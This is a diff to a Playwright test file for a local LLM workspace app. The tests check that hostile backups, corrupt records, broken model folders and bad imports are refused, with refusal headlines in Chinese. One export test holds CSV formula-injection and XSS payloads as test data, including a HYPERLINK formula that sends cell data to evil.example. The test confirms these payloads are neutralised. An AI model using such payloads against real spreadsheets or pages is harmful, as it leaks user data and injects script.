@@ -8,13 +8,15 @@
  * (bypassing restore) and read by Insights; user-named keys (template variables, a category
  * named __proto__); files that would make the app reach the network (a classifier naming an
  * unknown embedding model, incomplete model folders, local/* models); two tabs of one context;
- * and the cases that already held (CSV formula injection, HTML report escaping).
+ * and the cases that already held (CSV formula injection, HTML report escaping); and, in Chinese,
+ * each kind of refusal with its reason in the headline.
  */
-import { cpSync, mkdirSync, mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
-import { expect, test, type BrowserContext, type Page } from '@playwright/test';
+import { expect, test, type BrowserContext, type Locator, type Page } from '@playwright/test';
 import { serializeClassifier } from '../../src/customize/serialize';
+import { TEMPLATE_FILE_FORMAT } from '../../src/content/templates';
 import { trainSoftmaxSync } from '../../src/customize/softmax';
 import { openApp } from './support/app';
 import { recordNetwork, type NetworkLog } from './support/network';
@@ -73,7 +75,15 @@ function dataset(id: string, rows: number, patch: Record<string, unknown> = {}):
 }
 
 function items(count: number, prefix = 'row'): Record<string, unknown>[] {
-  return Array.from({ length: count }, (_, i) => ({ row: i + 1, id: `row-${i + 1}`, text: `${prefix} ${i + 1} works great`, date: null, rating: null, segment: null, duplicateOf: null }));
+  return Array.from({ length: count }, (_, i) => ({
+    row: i + 1,
+    id: `row-${i + 1}`,
+    text: `${prefix} ${i + 1} works great`,
+    date: null,
+    rating: null,
+    segment: null,
+    duplicateOf: null,
+  }));
 }
 
 function run(id: string, datasetId: string, total: number, patch: Record<string, unknown> = {}): Record<string, unknown> {
@@ -96,7 +106,14 @@ function stores(spoil: (s: Record<string, Record<string, unknown>[]>) => void = 
 }
 
 function backupText(storesValue: unknown, header: Record<string, unknown> = {}): string {
-  return JSON.stringify({ format: 'llmaos-workspace-backup', version: 1, schemaVersion: 1, exportedAt: new Date(T0).toISOString(), stores: storesValue, ...header });
+  return JSON.stringify({
+    format: 'llmaos-workspace-backup',
+    version: 1,
+    schemaVersion: 1,
+    exportedAt: new Date(T0).toISOString(),
+    stores: storesValue,
+    ...header,
+  });
 }
 
 async function restore(page: Page, name: string, text: string, mode: 'replace' | 'merge' = 'replace'): Promise<void> {
@@ -191,10 +208,7 @@ test('hostile backups are refused at restore with the reason, and the workspace 
   const { page } = session;
   await writeRaw(page, { drafts: [{ id: 'keep', title: 'Keep me', text: 'unchanged', createdAt: T0, updatedAt: T0 }] });
   const before = await snapshot(page);
-  const cases = [
-    ...RECORD_CASES.map((c) => ({ name: c.name, text: backupText(stores(c.spoil)), refused: c.refused })),
-    ...FILE_CASES,
-  ];
+  const cases = [...RECORD_CASES.map((c) => ({ name: c.name, text: backupText(stores(c.spoil)), refused: c.refused })), ...FILE_CASES];
   for (const [index, row] of cases.entries()) {
     await test.step(row.name, async () => {
       await restore(page, `hostile-${index}.json`, row.text, index % 2 === 0 ? 'replace' : 'merge');
@@ -212,7 +226,10 @@ test('hostile backups are refused at restore with the reason, and the workspace 
   await expectSafe(session, baseURL!);
 });
 
-test('written straight into IndexedDB, each bad record is quarantined or refused on read: never a blank app, the other dataset stays usable', async ({ context, baseURL }) => {
+test('written straight into IndexedDB, each bad record is quarantined or refused on read: never a blank app, the other dataset stays usable', async ({
+  context,
+  baseURL,
+}) => {
   const session = await open(context, 'insights');
   const { page } = session;
   for (const row of RECORD_CASES) {
@@ -378,9 +395,29 @@ const FOLDER_CASES: Array<{ name: string; dir: () => string; error: RegExp }> = 
       }),
     error: /lacks onnx\/model_quantized\.onnx \(or onnx\/model\.onnx\)/,
   },
-  { name: 'a truncated ONNX file', dir: () => folder('truncated', (d) => truncateSync(join(d, 'onnx/model_quantized.onnx'), 4096)), error: /onnx\/model_quantized\.onnx is not a usable ONNX model file: it is truncated/ },
-  { name: 'an HTML page saved as ONNX', dir: () => folder('html', (d) => writeFileSync(join(d, 'onnx/model_quantized.onnx'), '<!doctype html><html><body>Sign in</body></html>')), error: /not a usable ONNX model file/ },
+  {
+    name: 'a truncated ONNX file',
+    dir: () => folder('truncated', (d) => truncateSync(join(d, 'onnx/model_quantized.onnx'), 4096)),
+    error: /onnx\/model_quantized\.onnx is not a usable ONNX model file: it is truncated/,
+  },
+  {
+    name: 'an HTML page saved as ONNX',
+    dir: () => folder('html', (d) => writeFileSync(join(d, 'onnx/model_quantized.onnx'), '<!doctype html><html><body>Sign in</body></html>')),
+    error: /not a usable ONNX model file/,
+  },
+  {
+    // config.json says the weights live beside the graph (model_quantized.onnx_data): that file must be there.
+    name: 'declared external data that is missing',
+    dir: () => folder('no-onnx-data', (d) => declareExternalData(d)),
+    error: /onnx\/model_quantized\.onnx needs its external data file "onnx\/model_quantized\.onnx_data", which is not in the folder/,
+  },
 ];
+
+function declareExternalData(dir: string): void {
+  const config = JSON.parse(readFileSync(join(dir, 'config.json'), 'utf8')) as Record<string, unknown>;
+  config['transformers.js_config'] = { use_external_data_format: true };
+  writeFileSync(join(dir, 'config.json'), JSON.stringify(config));
+}
 
 test('model folders missing a file, or with an ONNX file that does not parse, are refused naming it; local/* models never reach the Hub', async ({
   context,
@@ -427,7 +464,10 @@ test('model folders missing a file, or with an ONNX file that does not parse, ar
 // ---------------------------------------------------------------------------------------------
 // 4. Two tabs of one browser context
 
-test('two tabs: a restore in one closes the other tab’s dataset and stops its run; nothing is written for the missing dataset', async ({ context, baseURL }) => {
+test('two tabs: a restore in one closes the other tab’s dataset and stops its run; nothing is written for the missing dataset', async ({
+  context,
+  baseURL,
+}) => {
   const network = recordNetwork(context);
   const a = await open(context, 'settings', network);
   await writeRaw(a.page, { datasets: [dataset('gone', 1500)], datasetRows: [{ datasetId: 'gone', items: items(1500, 'gone') }] });
@@ -444,10 +484,21 @@ test('two tabs: a restore in one closes the other tab’s dataset and stops its 
   await expect(b.page.locator('[data-testid="insights-dataset"][data-dataset-id="gone"]')).toHaveCount(0);
   // Whatever chunk was in flight is refused by the workspace; the restored workspace stays as restored.
   const refusal = await b.page.evaluate(() =>
-    window.llmaosWorkspace!.put('runs', { id: 'sentiment-gone', datasetId: 'gone', kind: 'sentiment', status: 'running', total: 1500, done: 0, startedAt: 1, updatedAt: 1 }).then(
-      () => 'saved',
-      (error: { message: string }) => error.message,
-    ),
+    window
+      .llmaosWorkspace!.put('runs', {
+        id: 'sentiment-gone',
+        datasetId: 'gone',
+        kind: 'sentiment',
+        status: 'running',
+        total: 1500,
+        done: 0,
+        startedAt: 1,
+        updatedAt: 1,
+      })
+      .then(
+        () => 'saved',
+        (error: { message: string }) => error.message,
+      ),
   );
   expect(refusal).toMatch(/its dataset no longer exists/);
   await b.page.evaluate(() => window.llmaos.embed(['one more round trip to the worker']));
@@ -460,9 +511,20 @@ test('two tabs: a restore in one closes the other tab’s dataset and stops its 
   await expectSafe(b, baseURL!);
 });
 
-test('two tabs: template edits are seen by the other tab, and a stale edit or a deleted template is refused, not silently saved', async ({ context, baseURL }) => {
+test('two tabs: template edits are seen by the other tab, and a stale edit or a deleted template is refused, not silently saved', async ({
+  context,
+  baseURL,
+}) => {
   const network = recordNetwork(context);
-  const template = (id: string, name: string, body: string) => ({ id, name, kind: 'custom', body, variables: [{ name: 'topic', label: 'Topic', kind: 'text', required: false }], createdAt: T0, updatedAt: T0 });
+  const template = (id: string, name: string, body: string) => ({
+    id,
+    name,
+    kind: 'custom',
+    body,
+    variables: [{ name: 'topic', label: 'Topic', kind: 'text', required: false }],
+    createdAt: T0,
+    updatedAt: T0,
+  });
   const a = await open(context, 'write', network);
   await writeRaw(a.page, { templates: [template('user:shared', 'Shared', 'About {{topic}}:'), template('user:doomed', 'Doomed', 'Doomed {{topic}}:')] });
   await a.page.reload();
@@ -514,7 +576,9 @@ test('a hostile dataset exports with formulas neutralised (CSV) and markup escap
   const { page } = session;
   const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '<img src=x onerror=alert(1)> in a row', '+SUM(1,2)', '@cmd|calc'];
   const csvFile = `text\n${hostile.map((line) => `"${line.replace(/"/g, '""')}"`).join('\n')}\n`;
-  await page.getByTestId('insights-import-input').setInputFiles({ name: '<img src=x onerror=alert(1)>.csv', mimeType: 'text/csv', buffer: Buffer.from(csvFile) });
+  await page
+    .getByTestId('insights-import-input')
+    .setInputFiles({ name: '<img src=x onerror=alert(1)>.csv', mimeType: 'text/csv', buffer: Buffer.from(csvFile) });
   await page.getByTestId('insights-import-confirm').click();
   await expect(page.getByTestId('insights-active')).toBeVisible();
 
@@ -529,4 +593,90 @@ test('a hostile dataset exports with formulas neutralised (CSV) and markup escap
   expect(htmlText).not.toContain('<img src=x');
   expect(htmlText).toContain('&lt;img src=x onerror=alert(1)&gt;');
   await expectSafe(session, baseURL!);
+});
+
+// ---------------------------------------------------------------------------------------------
+// 6. In Chinese, every refusal's headline says why, in Chinese
+
+/** English wording that must not be left in a Chinese headline (file names and field names may be). */
+const ENGLISH_WORDING = /\b(must|found|is not|cannot|could not|refused|Nothing was|missing|malformed|truncated|Record \d)\b/i;
+
+async function expectChineseHeadline(error: Locator, ...parts: Array<string | RegExp>): Promise<void> {
+  await expect(error).toBeVisible({ timeout: 60_000 });
+  const headline = error.locator('.error-title');
+  for (const part of parts) await expect(headline).toContainText(part);
+  const text = (await headline.textContent()) ?? '';
+  expect(text).toMatch(/\p{Script=Han}/u);
+  expect(text).not.toMatch(ENGLISH_WORDING);
+}
+
+test('in Chinese, the headline of each refusal states its reason in Chinese: backup, dataset, classifier, templates, knowledge base, model folder', async ({
+  context,
+  baseURL,
+}) => {
+  test.setTimeout(240_000);
+  const network = recordNetwork(context);
+  const page = await context.newPage();
+  const errors: string[] = [];
+  page.on('pageerror', (error) => errors.push(error.message));
+  page.on('dialog', (dialog) => void dialog.accept());
+  const go = async (route: string) => {
+    await page.goto(`/?preset=fixtures&backend=wasm&lang=zh-CN#/${route}`);
+    await page.waitForFunction(() => window.llmaosWorkspace !== undefined);
+    await expect(page.locator('html')).toHaveAttribute('lang', 'zh-CN');
+  };
+
+  await test.step('backup restore: a record check (point 5) inside the restore refusal', async () => {
+    await go('settings');
+    await restore(page, 'yesterday.json', backupText(stores((s) => void (s.datasets![0]!.createdAt = 'yesterday'))));
+    await expectChineseHeadline(
+      page.getByTestId('backup-restore-error'),
+      '未恢复任何内容',
+      '备份中“datasets”的第 1 条记录格式有误',
+      '“createdAt”必须是日期',
+      '"yesterday"',
+    );
+    await restore(page, 'newer.json', backupText({}, { version: 99 }));
+    await expectChineseHeadline(page.getByTestId('backup-restore-error'), '未恢复任何内容', '更新版本的工作台');
+  });
+
+  await test.step('dataset: a binary file named .csv in Insights', async () => {
+    await go('insights');
+    await page
+      .getByTestId('insights-import-input')
+      .setInputFiles({ name: 'reviews.csv', mimeType: 'text/csv', buffer: Buffer.from([0x00, 0x01, 0x02, 0x03, 0xff, 0x00, 0x10, 0x00]) });
+    await expectChineseHeadline(page.getByTestId('insights-import-error'), '“reviews.csv”不是文本文件');
+  });
+
+  await test.step('classifier file: not JSON, in Customize', async () => {
+    await go('customize');
+    await page
+      .getByTestId('custom-import-classifier')
+      .setInputFiles({ name: 'broken.classifier.json', mimeType: 'application/json', buffer: Buffer.from('{"format": "llmaos-classifier", ') });
+    await expectChineseHeadline(page.getByTestId('custom-import-error-file'), '此文件不是分类器', '不是有效的 JSON');
+  });
+
+  await test.step('templates file: a template using an undeclared variable, in Write', async () => {
+    await go('write');
+    const file = { format: TEMPLATE_FILE_FORMAT, version: 1, templates: [{ id: 't', name: 'Reply', body: 'Hello {{customer}}', variables: [] }] };
+    await page
+      .getByTestId('write-templates-import')
+      .setInputFiles({ name: 'templates.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) });
+    await expectChineseHeadline(page.getByTestId('write-library-error'), '这不是有效的模板文件', '使用了 {{customer}}，但没有声明');
+  });
+
+  await test.step('knowledge base: a FAQ CSV without question and answer columns, in Ask', async () => {
+    await go('ask');
+    await page.getByTestId('kb-import-input').setInputFiles({ name: 'faq.csv', mimeType: 'text/csv', buffer: Buffer.from('title,body\nShipping,Two days\n') });
+    await expectChineseHeadline(page.getByTestId('kb-error'), '无法添加 faq.csv', '需要“question”和“answer”两列', 'title, body');
+  });
+
+  await test.step('model folder: declared external data that is missing (point 6), in Models', async () => {
+    await go('models');
+    await page.getByTestId('import-folder-input').setInputFiles(folder('zh-no-onnx-data', (d) => declareExternalData(d)));
+    await expectChineseHeadline(page.getByTestId('import-error'), '需要其外部数据文件“onnx/model_quantized.onnx_data”，但文件夹中没有该文件');
+  });
+
+  expect(network.offOrigin(baseURL!), network.toString()).toEqual([]);
+  expect(errors).toEqual([]);
 });
